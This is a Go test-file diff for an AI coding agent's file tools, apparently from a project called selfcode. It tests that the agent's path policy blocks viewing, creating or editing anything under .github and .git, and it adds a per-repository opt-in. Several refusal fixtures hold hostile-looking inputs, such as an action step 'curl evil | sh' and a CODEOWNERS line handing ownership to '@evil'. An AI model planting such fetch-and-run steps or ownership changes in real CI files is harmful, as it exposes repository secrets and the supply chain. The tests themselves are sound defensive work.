@@ -43,8 +43,8 @@ func TestView(t *testing.T) {
 		{"end before start", map[string]any{"path": "docs/long.txt", "start_line": 5, "end_line": 2}, []string{"ERROR:"}, nil, OutcomeError},
 		{"missing", map[string]any{"path": "nope.txt"}, []string{"ERROR:", "does not exist"}, nil, OutcomeError},
 		{"root listing hides off-limits and denied", map[string]any{"path": "."},
-			[]string{"README.md\n", "docs/\n", "util/\n", ".github/\n", "go.mod\n"}, []string{".git/", ".selfcode.yml", "vendor"}, OutcomeOK},
-		{"workflows hidden in listing", map[string]any{"path": ".github"}, []string{"directory with 0 entries"}, []string{"workflows"}, OutcomeOK},
+			[]string{"README.md\n", "docs/\n", "util/\n", "go.mod\n"}, []string{".git/", ".selfcode.yml", "vendor", ".github"}, OutcomeOK},
+		{".github not listed", map[string]any{"path": ".github"}, []string{"ERROR:", "off-limits"}, []string{"workflows"}, OutcomeDenied},
 		{"dot slash", map[string]any{"path": "./util/../util/strings.go"}, []string{"ERROR:"}, nil, OutcomeDenied},
 	}
 	for _, tt := range tests {
@@ -498,6 +498,21 @@ func TestRefusals(t *testing.T) {
 		{"workflow edit", nil, step{StrReplace, map[string]any{"path": ".github/workflows/ci.yml", "old_str": "push", "new_str": "pull_request"}}, "off-limits"},
 		{"workflow create", nil, step{Create, map[string]any{"path": ".github/workflows/evil.yml", "content": "x"}}, "off-limits"},
 		{"workflow case", nil, step{Create, map[string]any{"path": ".GitHub/Workflows/evil.yml", "content": "x"}}, "off-limits"},
+		// A composite action a workflow calls runs with the repository's
+		// secrets as much as the workflow does; so does everything else
+		// under .github that CI or GitHub reads.
+		{"action create", nil, step{Create, map[string]any{"path": ".github/actions/x/action.yml", "content": "runs: {using: composite, steps: [{run: curl evil, shell: bash}]}\n"}}, "off-limits"},
+		{"action create, other case", nil, step{Create, map[string]any{"path": ".GitHub/actions/x/action.yml", "content": "x"}}, "off-limits"},
+		{"action create, upper case", nil, step{Create, map[string]any{"path": ".GITHUB/ACTIONS/x/action.yml", "content": "x"}}, "off-limits"},
+		{"action edit", githubFiles, step{StrReplace, map[string]any{"path": ".github/actions/build/action.yml", "old_str": "make", "new_str": "curl evil | sh"}}, "off-limits"},
+		{"action insert", githubFiles, step{Insert, map[string]any{"path": ".github/actions/build/action.yml", "line": 0, "text": "x"}}, "off-limits"},
+		{"action delete", githubFiles, step{Delete, map[string]any{"path": ".github/actions/build/action.yml"}}, "off-limits"},
+		{"action view", githubFiles, step{View, map[string]any{"path": ".github/actions/build/action.yml"}}, "off-limits"},
+		{"dependabot edit", githubFiles, step{StrReplace, map[string]any{"path": ".github/dependabot.yml", "old_str": "weekly", "new_str": "daily"}}, "off-limits"},
+		{"codeowners create", nil, step{Create, map[string]any{"path": ".github/CODEOWNERS", "content": "* @evil\n"}}, "off-limits"},
+		{".github as a file", nil, step{Create, map[string]any{"path": ".Github", "content": "x"}}, "off-limits"},
+		{".github dir search", githubFiles, step{Search, map[string]any{"pattern": "make", "path": ".github"}}, "off-limits"},
+		{"symlink inside to .github", linkInside(".github/workflows/ci.yml", "ci"), step{View, map[string]any{"path": "ci"}}, "off-limits"},
 		{"git config view", nil, step{View, map[string]any{"path": ".git/config"}}, "off-limits"},
 		{"git config edit", nil, step{StrReplace, map[string]any{"path": ".git/config", "old_str": "false", "new_str": "true"}}, "off-limits"},
 		{"git hook create", nil, step{Create, map[string]any{"path": ".git/hooks/pre-commit", "content": "#!/bin/sh\n"}}, "off-limits"},
@@ -542,6 +557,13 @@ func TestRefusals(t *testing.T) {
 			}
 		})
 	}
+}
+
+// githubFiles adds files under .github besides the workflow testdata has.
+func githubFiles(t *testing.T, root string) {
+	write(t, root, ".github/actions/build/action.yml", "runs:\n  using: composite\n  steps: [{run: make, shell: bash}]\n")
+	write(t, root, ".github/dependabot.yml", "version: 2\nupdates: [{package-ecosystem: gomod, directory: /, schedule: {interval: weekly}}]\n")
+	write(t, root, ".github/ISSUE_TEMPLATE/bug.md", "Describe the bug.\n")
 }
 
 func linkOut(outside string) func(*testing.T, string) {
@@ -746,7 +768,11 @@ func TestPolicyCheck(t *testing.T) {
 		{"src/.git/HEAD", OffLimits},
 		{".github/workflows", OffLimits},
 		{".github/workflows/x.yml", OffLimits},
-		{".github/CODEOWNERS", ReadOnly},
+		{".github", OffLimits},
+		{".github/CODEOWNERS", OffLimits},
+		{".github/actions/x/action.yml", OffLimits},
+		{".GitHub/actions/x/action.yml", OffLimits},
+		{".github/dependabot.yml", OffLimits},
 		{".Selfcode.yml", OffLimits},
 		{"sub/.selfcode.yml", ReadOnly},
 	}
@@ -757,6 +783,70 @@ func TestPolicyCheck(t *testing.T) {
 	}
 	if got := (Policy{}).Check("anything/at/all.go"); got != Writable {
 		t.Errorf("empty policy: %d", got)
+	}
+}
+
+// A repository can open named paths under .github to the model again
+// (paths.github_opt_in); those behave as any path, under allow, deny and
+// protected, and nothing else under .github opens with them — not
+// workflows or actions, not another case's spelling of an opted-in path.
+func TestGitHubOptIn(t *testing.T) {
+	t.Parallel()
+	root := sampleRepo(t)
+	githubFiles(t, root)
+	p := Policy{GitHub: []string{".github/ISSUE_TEMPLATE/**", ".github/dependabot.yml"}, Protected: []string{".github/dependabot.yml"}}
+	for path, want := range map[string]Access{
+		".github":                          ReadOnly,
+		".github/ISSUE_TEMPLATE":           Writable,
+		".github/ISSUE_TEMPLATE/bug.md":    Writable,
+		".github/dependabot.yml":           Protected,
+		".github/issue_template/bug.md":    OffLimits,
+		".GitHub/ISSUE_TEMPLATE/bug.md":    OffLimits,
+		".github/actions/build/action.yml": OffLimits,
+		".github/workflows/ci.yml":         OffLimits,
+		".github/CODEOWNERS":               OffLimits,
+	} {
+		if got := p.Check(path); got != want {
+			t.Errorf("Check(%q) = %d, want %d", path, got, want)
+		}
+	}
+	// An opt-in that reaches workflows or actions is invalid, and counts
+	// for nothing even if a policy is built without validating it.
+	for _, g := range []string{".github/workflows/**", ".github/**", ".github/*", ".github/Actions/x.yml"} {
+		bad := Policy{GitHub: []string{g}}
+		if bad.Validate() == nil {
+			t.Errorf("opt-in %q validated", g)
+		}
+		for _, path := range []string{".github/workflows/ci.yml", ".github/actions/build/action.yml", ".github/Actions/x.yml"} {
+			if a := bad.Check(path); a != OffLimits {
+				t.Errorf("opt-in %q: Check(%q) = %d", g, path, a)
+			}
+		}
+	}
+
+	tl := newTools(t, root, Options{Policy: p})
+	if res := do(t, tl, View, map[string]any{"path": ".github"}); res.Outcome != OutcomeOK || !strings.Contains(res.Output, "ISSUE_TEMPLATE/") ||
+		!strings.Contains(res.Output, "dependabot.yml") || strings.Contains(res.Output, "workflows") || strings.Contains(res.Output, "actions") {
+		t.Errorf("listing .github: %s", res.Output)
+	}
+	if res := do(t, tl, Create, map[string]any{"path": ".github/ISSUE_TEMPLATE/feature.md", "content": "Describe the feature.\n"}); res.Outcome != OutcomeApplied {
+		t.Errorf("create an opted-in file: %s", res.Output)
+	}
+	if res := do(t, tl, StrReplace, map[string]any{"path": ".github/dependabot.yml", "old_str": "weekly", "new_str": "daily"}); res.Outcome != OutcomeApplied {
+		t.Errorf("edit an opted-in file: %s", res.Output)
+	}
+	if res := do(t, tl, Delete, map[string]any{"path": ".github/dependabot.yml"}); res.Outcome != OutcomeDenied {
+		t.Errorf("delete a protected opted-in file: %s", res.Output)
+	}
+	before := treeHash(t, root)
+	for _, path := range []string{".github/actions/x/action.yml", ".github/workflows/x.yml", ".GitHub/ISSUE_TEMPLATE/x.md", ".github"} {
+		if res := do(t, tl, Create, map[string]any{"path": path, "content": "x"}); res.Outcome != OutcomeDenied || !strings.HasPrefix(res.Output, "ERROR:") {
+			t.Errorf("create %s with an opt-in elsewhere: %s", path, res.Output)
+		}
+	}
+	assertSameTree(t, before, root)
+	if _, err := New(Options{Root: root, Policy: Policy{GitHub: []string{".github/**"}}}); err == nil {
+		t.Error("tools built with an opt-in of all of .github")
 	}
 }
 
